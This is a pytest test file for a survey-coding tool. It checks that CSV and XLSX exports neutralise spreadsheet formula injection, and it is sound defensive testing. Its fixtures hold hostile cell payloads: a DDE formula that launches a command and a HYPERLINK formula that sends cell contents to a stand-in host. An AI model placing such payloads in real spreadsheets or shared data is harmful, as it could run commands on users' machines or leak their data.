"""Spreadsheet formulas from survey cells never run: CSV cells neutralised (OWASP), XLSX cells always text."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from qualcode.cli.main import app
from qualcode.coding.service import add_codes
from qualcode.core.cells import csv_cell, csv_text
from qualcode.ingest.service import import_survey

from helpers import make_project

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"klicka")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, DDE, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_prefixed_and_reads_back(value):
    assert csv_cell(value) == "'" + value
    assert csv_text(csv_cell(value)) == value


@pytest.mark.parametrize("value", [3, 2.5, -4, "-3,5", "+12", "-0.5", "Bra chef", "", "3 - 4", "e-post"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csv_cell(value) == value


@pytest.fixture
def project(tmp_path):
    """A survey whose answers and metadata are formulas, every answer coded."""
    rows = [["id", "enhet", "svar"]] + [[f"R{i}", f, f] for i, f in enumerate(FORMULAS[:5])] + [["R9", "-3,5", "lokaler"]]
    path = tmp_path / "enkat.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    with make_project(tmp_path) as p:
        import_survey(p, path, ["svar"], id_column="id")
        add_codes(p, [s.id for s in p.store.iter_segments()], ["P13"])
    return tmp_path / "p"


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _no_live_formula(cells: list[str]) -> None:
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"-\d+[.,]\d+", c), c


def test_matrix_csv_neutralises_formulas(project, tmp_path):
    out = tmp_path / "m.csv"
    r = runner.invoke(app, ["export", "matrix", str(out), "-p", str(project), "--delimiter", ";"])
    assert r.exit_code == 0, r.output
    cells = _cells(out.read_text(encoding="utf-8"), ";")
    _no_live_formula(cells)
    assert "'" + HYPERLINK in cells and "'@SUM(1,2)" in cells
    assert "-3,5" in cells  # a number stays a number (decimal comma with ";")


def _xlsx_formulas(path) -> tuple[list[object], str]:
    wb = load_workbook(path)
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    kinds = {c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "f" not in kinds and "<f>" not in xml and "<f " not in xml
    return values, xml


def test_matrix_xlsx_cells_are_text_never_formulas(project, tmp_path):
    out = tmp_path / "m.xlsx"
    assert runner.invoke(app, ["export", "matrix", str(out), "-p", str(project)]).exit_code == 0
    values, _ = _xlsx_formulas(out)
    assert HYPERLINK in values and DDE in values  # shown as typed
    assert 1 in values  # the 0/1 code columns stay numbers


def test_report_xlsx_quotes_and_breakdown_headers_are_text(project, tmp_path):
    out = tmp_path / "rapport"
    r = runner.invoke(app, ["report", "-p", str(project), "--out", str(out), "--formats", "xlsx",
                            "--by", "enhet", "--min-cell", "0", "--quotes", "9"])
    assert r.exit_code == 0, r.output
    values, _ = _xlsx_formulas(out / "rapport.xlsx")
    assert any(isinstance(v, str) and v.startswith("=cmd") for v in values)  # a quote, as text
    assert "+1+2" in values or any(isinstance(v, str) and "+1+2" in v for v in values)


@pytest.mark.parametrize("args", [
    ["code", "list", "--format", "csv"],
    ["corpus", "segments", "--format", "csv"],
    ["counts", "--by", "enhet", "--format", "csv"],
])
def test_csv_listings_neutralise_formulas(project, args):
    r = runner.invoke(app, [*args, "-p", str(project)])
    assert r.exit_code == 0, r.output
    cells = _cells(r.output)
    _no_live_formula(cells)
    assert any(c.startswith("'=") or c.startswith("'@") for c in cells)


def test_codebook_csv_export_neutralises_and_reads_back(tmp_path):
    with make_project(tmp_path) as p:
        runner.invoke(app, ["codebook", "add", "T-X", "=HYPERLINK(1)", "-p", str(p.root)])
    out = tmp_path / "kodbok.csv"
    r = runner.invoke(app, ["codebook", "export", "--format", "csv", "--out", str(out), "-p", str(tmp_path / "p")])
    assert r.exit_code == 0, r.output
    cells = _cells(out.read_text(encoding="utf-8"))
    _no_live_formula(cells)
    assert "'=HYPERLINK(1)" in cells
    from qualcode.core.codebook import load_codebook

    assert load_codebook(out).get("T-X").name == "=HYPERLINK(1)"


def test_mentions_csv_and_mapping_template_neutralise_formulas(tmp_path):
    path = tmp_path / "slutenkat.csv"
    path.write_text(f"id;langst_1\nR1;{DDE}\nR2;lokaler\nR3;@onboarding\n", encoding="utf-8")
    template = tmp_path / "mappning.csv"
    r = runner.invoke(app, ["mentions", "review", str(path), "-c", "langst_1", "--format", "csv",
                            "--template", str(template)])
    assert r.exit_code == 0, r.output
    _no_live_formula(_cells(r.output))
    text = template.read_text(encoding="utf-8")
    cells = _cells(text, ";")
    _no_live_formula(cells)
    assert "'" + DDE in cells
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    with template.open("w", encoding="utf-8", newline="") as fh:  # the researcher fills in the categories
        csv.writer(fh, delimiter=";").writerows([rows[0]] + [[r[0], "OVRIGT", *r[2:]] for r in rows[1:]])
    r = runner.invoke(app, ["mentions", "count", str(path), "-c", "langst_1", "--mapping", str(template),
                            "--format", "json"])
    assert r.exit_code == 0, r.output
    data = json.loads(r.stdout)  # stderr notes that counts under 5 are not suppressed
    assert data["unresolved"] == []  # the template's answers read back as written
    r = runner.invoke(app, ["mentions", "count", str(path), "-c", "langst_1", "--format", "json"])
    assert [u["answer"] for u in json.loads(r.stdout)["unresolved"]] == [DDE]
    r = runner.invoke(app, ["mentions", "count", str(path), "-c", "langst_1", "--format", "csv"])
    assert r.exit_code == 0, r.output
    _no_live_formula(_cells(r.output, ";"))
